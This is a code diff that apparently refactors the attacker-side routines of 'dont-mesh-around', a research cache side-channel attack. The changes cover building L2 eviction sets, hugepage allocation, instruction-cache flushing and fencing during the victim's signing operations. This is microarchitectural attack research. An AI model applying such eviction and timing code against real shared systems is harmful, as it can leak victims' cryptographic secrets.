@@ -1,12 +1,14 @@
 #include "dont-mesh-around.h"
+#include "../../util/eviction_set_builder.h"
+#include "../../util/icache_flush.h"
+#include "../../util/hugepage.h"
 
 #include <string.h>
-#include <x86intrin.h>
 
 #define BUF_SIZE 400 * 1024UL * 1024 /* Buffer Size -> 400*1MB */
 
 static volatile struct sharestruct *mysharestruct = NULL;
-static struct Node *eviction_sets[L2_CACHE_SETS];
+static struct flat_ev *eviction_sets[L2_CACHE_SETS];
 static void *buffer;
 static int iteration_counter;
 
@@ -29,40 +31,28 @@ void prepare_for_attack(uint8_t *attacking) {
 		}
 
 		// Allocate large buffer (pool of addresses)
-		buffer = mmap(NULL, BUF_SIZE, PROT_READ | PROT_WRITE, MAP_ANON | MAP_PRIVATE | MAP_HUGETLB, -1, 0);
-		if (buffer == MAP_FAILED) {
-			perror("mmap");
-			exit(1);
-		}
-
-		// Write data to the buffer so that any copy-on-write
-		// mechanisms will give us our own copies of the pages.
-		memset(buffer, 0, BUF_SIZE);
+		buffer = hugepage_alloc(BUF_SIZE, HUGEPAGE_SHIFT);
 
-		// Initialize size of sets
-		uint32_t number_of_addresses[L2_CACHE_SETS];
+		// One eviction set of L2_CACHE_WAYS addresses per L2 set, on any slice
+		uint32_t sets[L2_CACHE_SETS];
+		struct ev_spec specs[L2_CACHE_SETS];
 		for (int k = 0; k < L2_CACHE_SETS; k++) {
-			number_of_addresses[k] = 0;
+			sets[k] = k;
+			specs[k] = (struct ev_spec){EV_ANY_SLICE, &sets[k], 1, L2_CACHE_WAYS, EV_LAYOUT_SEQUENTIAL};
 		}
 
-		// Go through addresses in the buffer
-		uint64_t offset = 0;
-		uint32_t number_of_sets_done = 0;
-		while (number_of_sets_done != L2_CACHE_SETS) {
-
-			uint32_t set_index = get_cache_set_index((uint64_t)buffer + offset, 2);
-			if (number_of_addresses[set_index] < L2_CACHE_WAYS) {
-				append_string_to_linked_list(&eviction_sets[set_index], (void *)((uint64_t)buffer + offset));
-				number_of_addresses[set_index] += 1;
-				offset += PAGE;
-
-				if (number_of_addresses[set_index] == L2_CACHE_WAYS) {
-					number_of_sets_done += 1;
-				}
-			}
-
-			offset += CACHE_BLOCK_SIZE;
+		struct slice_index *index = slice_index_create(buffer, BUF_SIZE);
+		for (int k = 0; k < L2_CACHE_SETS; k++) {
+			eviction_sets[k] = build_flat_ev(index, &specs[k], 1);
 		}
+		slice_index_destroy(index);
+
+		// Generate the I-cache flush for this core
+		icache_flush_init(1);
+#ifdef PRINT_DEBUG
+		// The victim's stdout belongs to the victim
+		icache_flush_print(stderr);
+#endif
 	}
 }
 
@@ -77,26 +67,10 @@ void check_attack_iteration(uint8_t *attacking) {
 		// Reset the request variable
 		mysharestruct->sign_requested = 0;
 
-		struct Node *current;
 		for (int k = 0; k < L2_CACHE_SETS; k++) {
-			for (int ii = 0; ii < 4; ii++) {
-				current = eviction_sets[k];
-				// while (current && current->next) {
-				while (current && current->next && current->next->next) {
-					maccess(current->address);
-					maccess(current->next->address);
-					maccess(current->next->next->address);
-					maccess(current->address);
-					maccess(current->next->address);
-					maccess(current->next->next->address);
-					current = current->next;
-				}
-			}
+			flat_ev_load_overlapping(eviction_sets[k], 4);
 		}
 
-		flush_l1i();
-		flush_l1i();
-		flush_l1i();
 		flush_l1i();
 
 		// Bring attack code back to the cache
@@ -106,7 +80,7 @@ void check_attack_iteration(uint8_t *attacking) {
 		// Mark the attack as started
 		*attacking = 1;
 		mysharestruct->iteration_of_interest_running = 1;
-		_mm_lfence();
+		arch_fence();
 	}
 }
 